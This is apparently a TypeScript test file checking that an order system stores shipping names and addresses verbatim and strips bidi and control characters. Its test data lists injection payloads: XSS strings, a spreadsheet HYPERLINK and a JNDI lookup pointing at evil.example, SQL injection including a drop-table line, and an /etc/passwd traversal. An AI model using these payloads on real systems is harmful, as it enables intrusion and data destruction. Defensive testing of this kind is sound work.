/* What is typed into an address comes back as what it is: text. */
import { expect } from 'vitest'
import type { AttackCase } from '../attack-case.ts'
import { accepted, withAddress } from './ordering.ts'

const VERBATIM: [number: string, typed: string][] = [
  ['A82', '<script>alert(1)</script>'],
  ['A82', '<img src=x onerror=alert(1)>'],
  ['A83', '"><svg onload=alert(1)>'],
  ['A83', "'-alert(1)-'"],
  ['A83', '</textarea><script>alert(1)</script>'],
  ['A83', 'javascript:alert(1)'],
  ['A84', '=1+1'],
  ['A84', '=HYPERLINK("https://evil.example","x")'],
  ['A84', '@SUM(A1:A9)'],
  ['A84', '+92'],
  ['A84', '-2+3'],
  ['A85', '{{7*7}}'],
  ['A85', `\${7*7}`],
  ['A85', '%s%n%x'],
  ['A85', '<%= 1 %>'],
  ['A85', '#{7*7}'],
  ['A85', `\${jndi:ldap://evil.example/a}`],
  ['A86', "'; drop table public.orders; --"],
  ['A86', "' or '1'='1"],
  ['A86', '$$; select 1; $$'],
  ['A86', '\\u202e \\n \\" \\x00'],
  ['A86', '../../etc/passwd'],
  ['A86', 'null'],
  ['A86', '🌿🧴 عائشہ خان'],
]

const CLEANED: [number: string, fact: string, typed: string, stored: string][] = [
  ['A79', 'what turns the reading around', 'Ali\u202Ecod.exe', 'Alicod.exe'],
  ...[...'\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069'].map(
    (mark): [string, string, string, string] => [
      'A79',
      `the mark ${JSON.stringify(mark)} U+${mark.codePointAt(0)?.toString(16)}`,
      `A${mark}li`,
      'Ali',
    ],
  ),
  ['A80', 'decomposed letters', 'Zoe\u0308', 'Zo\u00EB'],
  ['A80', 'joiners of Urdu words stay', 'می\u200Cخواهم', 'می\u200Cخواهم'],
  ['A81', 'line ends', 'Ali\r\nKhan', 'Ali Khan'],
  ['A81', 'line separators', 'Ali\u2028\u2029Khan', 'Ali Khan'],
  ['A81', 'control characters', 'Ali\u0001\u0007\u001B\u007F\u0085\u009FKhan', 'Ali Khan'],
  ['A81', 'escape sequences', 'Ali\u001B[2JKhan', 'Ali [2JKhan'],
  ['A81', 'wide and narrow spaces', 'Ali\u00A0\u2003\u3000\uFEFFKhan', 'Ali Khan'],
  ['A81', 'spaces around', ' \n Ali Khan \t ', 'Ali Khan'],
]

export const text: AttackCase[] = [
  ...VERBATIM.flatMap(([number, typed]) =>
    ['fullName', 'address'].map((field) =>
      accepted(
        `${number} ${field} ${typed} is stored as it is`,
        withAddress({ [field]: typed }),
        (order) => expect(order.shippingAddress[field]).toBe(typed),
      ),
    ),
  ),
  ...CLEANED.map(([number, what, typed, stored]) =>
    accepted(
      `${number} ${what}: stored plain`,
      withAddress({ fullName: typed }),
      async (order, shop) => {
        expect(order.shippingAddress['fullName']).toBe(stored)
        const [row] = await shop.asAdmin(
          `select shipping_address ->> 'fullName' as name from public.orders where id = $1`,
          [order.id],
        )
        expect(row).toEqual({ name: stored })
      },
    ),
  ),
]
